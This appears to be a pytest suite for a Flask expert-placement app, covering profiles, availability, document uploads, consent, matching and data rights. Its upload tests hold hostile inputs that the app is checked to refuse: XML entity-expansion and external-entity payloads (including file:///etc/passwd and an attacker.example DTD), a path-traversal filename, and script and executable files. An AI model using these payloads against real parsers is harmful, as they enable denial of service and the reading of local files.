"""Experts: guided profile, availability, documents, consent, matches and data rights."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from datetime import date, timedelta
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func, select
from werkzeug.test import EnvironBuilder

from matching.taxonomy import Taxonomy
from placement.experts.services import completeness
from placement.extensions import db
from placement.models import (
    AuditEvent,
    ConsentPurpose,
    ConsentRecord,
    CvSuggestion,
    Document,
    DocumentKind,
    ExpertProfile,
    ExpertSkill,
    NeedSkill,
    PlacementStatus,
    Role,
    User,
)
from tests import factories
from tests.samples import docx_bytes, pdf_bytes

TODAY = date.today()
MANAGE_BUDGETS = "manage budgets"


@pytest.fixture
def expert(login_as: Callable[..., User]) -> ExpertProfile:
    return login_as(Role.EXPERT).expert_profile


def _profile(expert: ExpertProfile) -> ExpertProfile:
    db.session.expire_all()
    return db.session.get(ExpertProfile, expert.id)


def _page(response: object) -> str:
    return response.get_data(as_text=True)  # type: ignore[attr-defined]


def _upload(client: FlaskClient, data: bytes, name: str, kind: str = "cv") -> object:
    # Werkzeug's test EnvironBuilder spools big bodies to a temporary file it never closes.
    builder = EnvironBuilder(
        path="/expert/documents",
        method="POST",
        data={"kind": kind, "file": (io.BytesIO(data), name)},
        content_type="multipart/form-data",
    )
    environ = builder.get_environ()
    try:
        return client.open(environ)
    finally:
        environ["wsgi.input"].close()
        builder.close()


class TestGuidedProfile:
    def test_step_one_saves_and_continues(self, client: FlaskClient, expert: ExpertProfile) -> None:
        response = client.post(
            "/expert/profile/step/1",
            data={
                "origin_country": "GH",
                "origin_region": "Kumasi",
                "residence_country": "DE",
                "residence_status": "permanent",
                "gender": "female",
                "next_step": "1",
            },
        )
        assert response.headers["Location"].endswith("/expert/profile/step/2")
        profile = _profile(expert)
        assert (profile.origin_country, profile.origin_region, profile.residence_country) == (
            "GH",
            "Kumasi",
            "DE",
        )
        assert profile.gender.value == "female" and profile.profile_step >= 1

    def test_the_year_of_moving_abroad_is_kept_and_checked(
        self, client: FlaskClient, expert: ExpertProfile
    ) -> None:
        base = {"origin_country": "GH", "residence_country": "DE", "gender": "undisclosed"}
        client.post("/expert/profile/step/1", data={**base, "abroad_since": "2011"})
        assert _profile(expert).abroad_since == 2011
        next_year = str(date.today().year + 1)
        for year, message in (
            (next_year, "This year has not come yet."),
            ("1900", "Give a year from 1940 on."),
        ):
            page = _page(client.post("/expert/profile/step/1", data={**base, "abroad_since": year}))
            assert message in page and f'value="{year}"' in page
            assert _profile(expert).abroad_since == 2011  # unchanged
        client.post("/expert/profile/step/1", data=base)  # optional: may be cleared
        assert _profile(expert).abroad_since is None

    def test_living_in_the_country_of_origin_is_refused_and_input_kept(
        self, client: FlaskClient, expert: ExpertProfile
    ) -> None:
        response = client.post(
            "/expert/profile/step/1",
            data={
                "origin_country": "GH",
                "origin_region": "Tamale",
                "residence_country": "GH",
                "gender": "undisclosed",
            },
        )
        page = _page(response)
        assert "Return programmes are for people living abroad." in page
        assert 'value="Tamale"' in page
        assert _profile(expert).origin_country == "SL"  # unchanged

    @pytest.mark.parametrize("country", ["XX", "sl", "", "<script>"])
    def test_unknown_country_codes_are_refused(
        self, client: FlaskClient, expert: ExpertProfile, country: str
    ) -> None:
        response = client.post(
            "/expert/profile/step/1",
            data={"origin_country": country, "residence_country": "DE", "gender": "undisclosed"},
        )
        assert response.status_code == 200 and 'class="field-error"' in _page(response)

    def test_languages(self, client: FlaskClient, expert: ExpertProfile) -> None:
        data = {
            "languages-0-code": "fr",
            "languages-0-level": "C1",
            "languages-1-code": "wo",
            "languages-1-level": "native",
            "languages-2-code": "",
            "languages-2-level": "",
        }
        assert client.post("/expert/profile/step/2", data=data).status_code == 302
        assert {(x.code, x.level.value) for x in _profile(expert).languages} == {
            ("fr", "C1"),
            ("wo", "native"),
        }

    @pytest.mark.parametrize(
        ("data", "message"),
        [
            ({"languages-0-code": "fr", "languages-0-level": ""}, "Choose your level"),
            (
                {
                    "languages-0-code": "fr",
                    "languages-0-level": "C1",
                    "languages-1-code": "fr",
                    "languages-1-level": "B2",
                },
                "Each language only once",
            ),
            ({"languages-0-code": "", "languages-0-level": ""}, "Add at least one language"),
            ({"languages-0-code": "xx", "languages-0-level": "C1"}, "Not a valid choice"),
            ({"languages-0-code": "fr", "languages-0-level": "Z9"}, "Not a valid choice"),
        ],
    )
    def test_bad_languages(
        self, client: FlaskClient, expert: ExpertProfile, data: dict[str, str], message: str
    ) -> None:
        response = client.post("/expert/profile/step/2", data=data)
        assert response.status_code == 200 and message in _page(response)
        assert [x.code for x in _profile(expert).languages] == ["en"]

    def test_skills_link_to_esco_in_any_language_and_with_typos(
        self, client: FlaskClient, expert: ExpertProfile
    ) -> None:
        data = {
            "occupation": "nurse responsible for general care",
            "skills-0-label": MANAGE_BUDGETS,
            "skills-0-proficiency": "3",
            "skills-1-label": "manage budgtes",
            "skills-1-proficiency": "",
            "skills-2-label": "playing the kora at weddings",
            "skills-2-proficiency": "",
            "years_experience": "12",
            "sectors": ["health", "education"],
            "summary": "Nurse.",
        }
        client.post("/expert/profile/step/3", data=data)
        profile = _profile(expert)
        by_label = {s.label: s for s in profile.skills}
        assert by_label[MANAGE_BUDGETS].esco_uri is not None
        assert by_label["manage budgtes"].esco_uri == by_label[MANAGE_BUDGETS].esco_uri
        assert by_label["playing the kora at weddings"].esco_uri is None
        assert by_label[MANAGE_BUDGETS].proficiency == 3
        assert profile.occupation_uri and profile.years_experience == 12
        assert profile.sectors == ["health", "education"]

    def test_french_skill_finds_the_english_concept(
        self, client: FlaskClient, expert: ExpertProfile
    ) -> None:
        client.post("/locale", data={"locale": "fr"})
        client.post(
            "/expert/profile/step/3",
            data={"skills-0-label": "gérer des budgets", "skills-1-label": MANAGE_BUDGETS},
        )
        uris = {s.label: s.esco_uri for s in _profile(expert).skills}
        assert uris["gérer des budgets"] == uris[MANAGE_BUDGETS] is not None

    def test_bad_skill_input(self, client: FlaskClient, expert: ExpertProfile) -> None:
        response = client.post(
            "/expert/profile/step/3",
            data={"skills-0-label": "x" * 300, "years_experience": "-3", "sectors": ["casino"]},
        )
        page = _page(response)
        assert page.count('class="field-error"') >= 3
        assert [s.label for s in _profile(expert).skills] == ["perform clinical examination"]

    def test_qualification_dates_are_checked(
        self, client: FlaskClient, expert: ExpertProfile
    ) -> None:
        response = client.post(
            "/expert/profile/step/4",
            data={
                "qualifications-0-kind": "licence",
                "qualifications-0-title": "Medical licence",
                "qualifications-0-obtained_on": "2020-01-01",
                "qualifications-0-expires_on": "2019-01-01",
            },
        )
        assert "cannot expire before it was obtained" in _page(response)
        ok = client.post(
            "/expert/profile/step/4",
            data={
                "education": "MD, University of Ghana, 2005",
                "qualifications-0-kind": "licence",
                "qualifications-0-title": "Medical licence",
                "qualifications-0-obtained_on": "2020-01-01",
                "qualifications-0-expires_on": "2030-01-01",
            },
        )
        assert ok.status_code == 302
        licence = _profile(expert).qualifications[0]
        assert licence.kind.value == "licence" and licence.expires_on == date(2030, 1, 1)

    def test_preferences_and_resuming(self, client: FlaskClient, expert: ExpertProfile) -> None:
        client.post(
            "/expert/profile/step/5",
            data={"preferred_regions": "Bo, Kenema ,", "remote_ok": "y", "next_step": "1"},
        )
        profile = _profile(expert)
        assert profile.preferred_regions == ["Bo", "Kenema"] and profile.remote_ok
        assert client.get("/expert/profile/step/9").status_code == 404
        assert "Kenema" in _page(client.get("/expert/profile"))


class TestAvailability:
    def _add(self, client: FlaskClient, start: date, end: date) -> object:
        return client.post(
            "/expert/availability", data={"start": start.isoformat(), "end": end.isoformat()}
        )

    def test_add_edit_remove(self, client: FlaskClient, expert: ExpertProfile) -> None:
        start = TODAY + timedelta(days=300)
        assert self._add(client, start, start + timedelta(days=30)).status_code == 302
        window = next(w for w in _profile(expert).availability if w.start == start)
        client.post(
            f"/expert/availability/{window.uuid}/edit",
            data={"start": start.isoformat(), "end": (start + timedelta(days=60)).isoformat()},
        )
        assert _profile(expert).availability[-1].end == start + timedelta(days=60)
        assert "<svg" in _page(client.get("/expert/availability"))
        client.post(f"/expert/availability/{window.uuid}/delete")
        assert all(w.start != start for w in _profile(expert).availability)

    @pytest.mark.parametrize(
        ("start", "end", "message"),
        [
            (TODAY - timedelta(days=1), TODAY + timedelta(days=9), "This date is in the past."),
            (TODAY + timedelta(days=400), TODAY + timedelta(days=390), "must come after"),
            (TODAY + timedelta(days=40), TODAY + timedelta(days=50), "overlaps another"),
            (TODAY + timedelta(days=2000), TODAY + timedelta(days=2010), "next five years"),
        ],
    )
    def test_bad_windows(
        self, client: FlaskClient, expert: ExpertProfile, start: date, end: date, message: str
    ) -> None:
        response = self._add(client, start, end)
        assert response.status_code == 200 and message in _page(response)
        assert len(_profile(expert).availability) == 1

    def test_malformed_date(self, client: FlaskClient, expert: ExpertProfile) -> None:
        response = client.post("/expert/availability", data={"start": "31/02/2027", "end": ""})
        assert "Not a valid date value." in _page(response)

    def test_another_experts_window_is_not_found(
        self, client: FlaskClient, expert: ExpertProfile
    ) -> None:
        other = factories.ExpertFactory()
        window = other.availability[0]
        assert client.get(f"/expert/availability/{window.uuid}/edit").status_code == 404
        assert client.post(f"/expert/availability/{window.uuid}/delete").status_code == 404
        assert client.get("/expert/availability/not-a-uuid/edit").status_code == 404
        assert len(_profile(other).availability) == 1


class TestDocuments:
    def test_cv_upload_suggests_skills_the_expert_confirms(
        self, app: Flask, client: FlaskClient, expert: ExpertProfile
    ) -> None:
        cv = pdf_bytes("Curriculum vitae\nI manage budgets and conduct physical examinations.")
        response = _upload(client, cv, "my cv.pdf")
        document = db.session.scalars(select(Document)).one()
        assert response.headers["Location"].endswith(f"/expert/documents/{document.uuid}/skills")
        path = Path(app.config["UPLOAD_DIR"]) / document.stored_name
        assert path.read_bytes() == cv and "static" not in str(path)
        assert document.content_type == "application/pdf" and document.original_name == "my_cv.pdf"
        page = _page(client.get(f"/expert/documents/{document.uuid}/skills"))
        assert MANAGE_BUDGETS in page
        uri = Taxonomy.load().resolve(MANAGE_BUDGETS)[0].uri
        suggestion = db.session.scalars(
            select(CvSuggestion).where(CvSuggestion.esco_uri == uri)
        ).one()
        client.post(
            f"/expert/documents/{document.uuid}/skills",
            data={"suggestion": str(suggestion.uuid), "decision": "accept"},
        )
        assert uri in {s.esco_uri for s in _profile(expert).skills}

    def test_docx_is_accepted_and_read(self, client: FlaskClient, expert: ExpertProfile) -> None:
        _upload(client, docx_bytes("Skills\nmanage budgets"), "cv.docx")
        document = db.session.scalars(select(Document)).one()
        assert document.content_type.endswith("wordprocessingml.document")
        assert "manage budgets" in (document.extracted_text or "")

    @pytest.mark.parametrize(
        ("data", "name", "message"),
        [
            (b"<html><script>alert(1)</script></html>", "cv.pdf", "Only PDF, Word"),
            (b"MZ\x90\x00 executable", "cv.docx", "Only PDF, Word"),
            (docx_bytes("x", macro=True), "cv.docx", "macros"),
            (b"PK\x03\x04 not really a zip", "cv.docx", "damaged"),
            (b"", "empty.pdf", "empty"),
            (b"%PDF-1.4\n" + b"0" * (5 * 1024 * 1024), "big.pdf", "larger than 5 MB"),
        ],
    )
    def test_hostile_or_wrong_files_are_refused(
        self,
        app: Flask,
        client: FlaskClient,
        expert: ExpertProfile,
        data: bytes,
        name: str,
        message: str,
    ) -> None:
        response = _upload(client, data, name)
        assert response.status_code == 200 and message in _page(response)
        assert db.session.scalar(select(func.count()).select_from(Document)) == 0

    @pytest.mark.parametrize(
        "doctype",
        [
            pytest.param(  # &lol; expands to 10^9 "lol"s
                '<!DOCTYPE w:document [<!ENTITY lol0 "lol">'
                + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 9))
                + '<!ENTITY lol "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>',
                id="billion-laughs",
            ),
            pytest.param(
                '<!DOCTYPE w:document [<!ENTITY lol SYSTEM "file:///etc/passwd">]>',
                id="external-entity",
            ),
            pytest.param(
                '<!DOCTYPE w:document SYSTEM "http://attacker.example/evil.dtd">',
                id="external-dtd",
            ),
        ],
    )
    @pytest.mark.parametrize("kind", ["cv", "certificate"])
    def test_docx_with_a_dtd_is_refused(
        self, app: Flask, client: FlaskClient, expert: ExpertProfile, doctype: str, kind: str
    ) -> None:
        ns = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
        document = (
            f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{ns}"><w:body>'
            "<w:p><w:r><w:t>manage budgets &lol;</w:t></w:r></w:p></w:body></w:document>"
        )
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
            archive.writestr("word/document.xml", document)
        uploads = Path(app.config["UPLOAD_DIR"])
        files_before = set(uploads.iterdir()) if uploads.exists() else set()

        response = _upload(client, buffer.getvalue(), "cv.docx", kind=kind)

        assert response.status_code == 200
        page = _page(response)
        assert "Word documents with a DTD or entity declarations are not accepted." in page
        assert db.session.scalar(select(func.count()).select_from(Document)) == 0
        assert (set(uploads.iterdir()) if uploads.exists() else set()) == files_before

    def test_docx_whose_body_is_not_xml_is_refused(
        self, client: FlaskClient, expert: ExpertProfile
    ) -> None:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
            archive.writestr("word/document.xml", "this is not XML")
        response = _upload(client, buffer.getvalue(), "cv.docx", kind="other")
        assert "This file is damaged or not a Word document." in _page(response)
        assert db.session.scalar(select(func.count()).select_from(Document)) == 0

    def test_path_in_the_name_is_neutralised(
        self, client: FlaskClient, expert: ExpertProfile
    ) -> None:
        _upload(client, pdf_bytes("cv"), "../../etc/passwd.pdf")
        document = db.session.scalars(select(Document)).one()
        assert "/" not in document.original_name and ".." not in document.original_name

    def test_who_may_download(self, app: Flask, client: FlaskClient, login: Callable) -> None:
        owner = factories.ExpertFactory()
        login(owner.user)
        _upload(client, pdf_bytes("cv"), "cv.pdf")
        document = db.session.scalars(select(Document)).one()
        url = f"/documents/{document.uuid}"
        response = client.get(url)
        assert response.status_code == 200
        assert response.headers["Content-Disposition"].startswith("attachment")
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        response.close()

        def status(user: User) -> int:
            other = app.test_client()
            other.post("/login", data={"email": user.email, "password": factories.PASSWORD})
            response = other.get(url)
            response.close()
            return response.status_code

        host = factories.HostMemberFactory()
        assert status(factories.ExpertFactory().user) == 404
        assert status(host.user) == 404
        assert status(factories.StaffFactory()) == 200
        need = factories.NeedFactory(institution=host.institution)
        placement = factories.PlacementFactory(
            need=need, expert=owner, status=PlacementStatus.OFFERED
        )
        assert status(host.user) == 404  # an offer is not enough
        db.session.get(type(placement), placement.id).status = PlacementStatus.APPROVED
        db.session.commit()
        assert status(host.user) == 200

    def test_delete_removes_the_file(
        self, app: Flask, client: FlaskClient, expert: ExpertProfile
    ) -> None:
        _upload(client, pdf_bytes("cv"), "cv.pdf", kind="certificate")
        document = db.session.scalars(select(Document)).one()
        path = Path(app.config["UPLOAD_DIR"]) / document.stored_name
        client.post(f"/expert/documents/{document.uuid}/delete")
        assert not path.exists()
        assert db.session.scalar(select(func.count()).select_from(Document)) == 0


class TestCompleteness:
    def test_a_new_profile_says_what_to_do_next(self, client: FlaskClient) -> None:
        client.post(
            "/register/expert",
            data={
                "full_name": "New Expert",
                "email": "new@example.org",
                "password": "a long and unusual passphrase 7",
                "confirm": "a long and unusual passphrase 7",
                "consent_processing": "y",
            },
        )
        page = _page(client.get("/expert/"))
        assert "Your profile is 0% complete" in page
        assert "Say where you come from and where you live" in page

    def test_next_step_is_the_most_useful_missing_item(self, app_ctx: None) -> None:
        profile = factories.ExpertFactory()  # one skill, no CV
        result = completeness(profile)
        assert 0 < result.percent < 100
        assert result.next_label == "Add at least three skills"
        profile.skills.extend([ExpertSkill(label="triage"), ExpertSkill(label="suturing")])
        profile.documents.append(
            Document(
                kind=DocumentKind.CV,
                original_name="cv.pdf",
                stored_name="x.pdf",
                content_type="application/pdf",
                size_bytes=1,
                sha256="0" * 64,
            )
        )
        profile.education = "Nursing school"
        assert completeness(profile).percent == 100
        assert completeness(profile).next_endpoint is None


class TestConsent:
    def test_withdrawing_sharing_hides_the_expert_from_hosts_at_once(
        self, app: Flask, client: FlaskClient, expert: ExpertProfile
    ) -> None:
        from placement.matches.services import experts_for_need

        need = factories.NeedFactory()
        with app.test_request_context():
            assert [r.expert.id for r in experts_for_need(need, for_host=True)] == [expert.id]
        client.post("/expert/consent", data={"processing": "y"})
        with app.test_request_context():
            assert experts_for_need(need, for_host=True) == []
            assert [r.expert.id for r in experts_for_need(need)] == [expert.id]
        rows = db.session.scalars(
            select(ConsentRecord).where(
                ConsentRecord.user_id == expert.user_id,
                ConsentRecord.purpose == ConsentPurpose.SHARE_WITH_HOSTS,
            )
        ).all()
        assert [r.granted for r in rows] == [True, False]
        assert db.session.scalar(select(AuditEvent.action)) == "consent.withdraw"

    def test_withdrawing_processing_removes_the_expert_from_matching(
        self, app: Flask, client: FlaskClient, expert: ExpertProfile
    ) -> None:
        from placement.matches.services import experts_for_need

        need = factories.NeedFactory()
        client.post("/expert/consent", data={})
        with app.test_request_context():
            assert experts_for_need(need) == []


class TestMatches:
    def test_dashboard_lists_fitting_needs_with_the_explanation(
        self, client: FlaskClient, expert: ExpertProfile
    ) -> None:
        need = factories.NeedFactory(title="Clinical examination trainer")
        other_country = factories.NeedFactory(
            title="Far away", institution=factories.InstitutionFactory(country="GH")
        )
        page = _page(client.get("/expert/"))
        assert need.title in page and other_country.title not in page
        assert "Why this score" in page and "Required skills matched" in page

    def test_an_empty_profile_sees_no_match(self, client: FlaskClient, login: Callable) -> None:
        profile = factories.ExpertFactory(details=False, summary=None, occupation_label=None)
        login(profile.user)
        factories.NeedFactory()
        assert "No open need fits your profile" in _page(client.get("/expert/"))


class TestDataRights:
    def test_export_holds_every_record_and_the_files(
        self, client: FlaskClient, expert: ExpertProfile
    ) -> None:
        _upload(client, pdf_bytes("cv text"), "cv.pdf", kind="certificate")
        response = client.get("/expert/data/export")
        assert response.headers["Content-Disposition"].startswith("attachment")
        archive = zipfile.ZipFile(io.BytesIO(response.data))
        data = json.loads(archive.read("data.json"))
        assert data["account"]["email"] == expert.user.email
        assert "password_hash" not in data["account"]
        assert data["skills"][0]["label"] == "perform clinical examination"
        assert {c["purpose"] for c in data["consents"]} == {"processing", "share_with_hosts"}
        assert any(name.startswith("documents/") for name in archive.namelist())

    def test_wrong_password_deletes_nothing(
        self, client: FlaskClient, expert: ExpertProfile
    ) -> None:
        response = client.post(
            "/expert/data/delete", data={"password": "wrong one", "confirm": "y"}
        )
        assert response.status_code == 400 and "not correct" in _page(response)
        assert db.session.get(User, expert.user_id).deleted_at is None

    def test_deletion_erases_the_person_and_keeps_anonymous_placements(
        self, app: Flask, client: FlaskClient, expert: ExpertProfile
    ) -> None:
        _upload(client, pdf_bytes("cv"), "cv.pdf", kind="certificate")
        path = (
            Path(app.config["UPLOAD_DIR"]) / db.session.scalars(select(Document)).one().stored_name
        )
        placement = factories.PlacementFactory(expert=expert, status=PlacementStatus.COMPLETED)
        expert.abroad_since = 2012
        db.session.commit()
        email = expert.user.email
        response = client.post(
            "/expert/data/delete", data={"password": factories.PASSWORD, "confirm": "y"}
        )
        assert response.status_code == 302
        db.session.expire_all()
        user = db.session.get(User, expert.user_id)
        profile = db.session.get(ExpertProfile, expert.id)
        assert user.email != email and user.full_name == "" and not user.is_active
        assert profile.skills == [] and profile.documents == [] and profile.summary is None
        assert profile.abroad_since is None
        assert profile.gender is not None and profile.origin_country == "SL"
        assert not path.exists()
        assert db.session.get(type(placement), placement.id) is not None
        relogin = client.post("/login", data={"email": email, "password": factories.PASSWORD})
        assert relogin.status_code == 200
        assert db.session.scalar(select(func.count()).select_from(NeedSkill)) >= 1
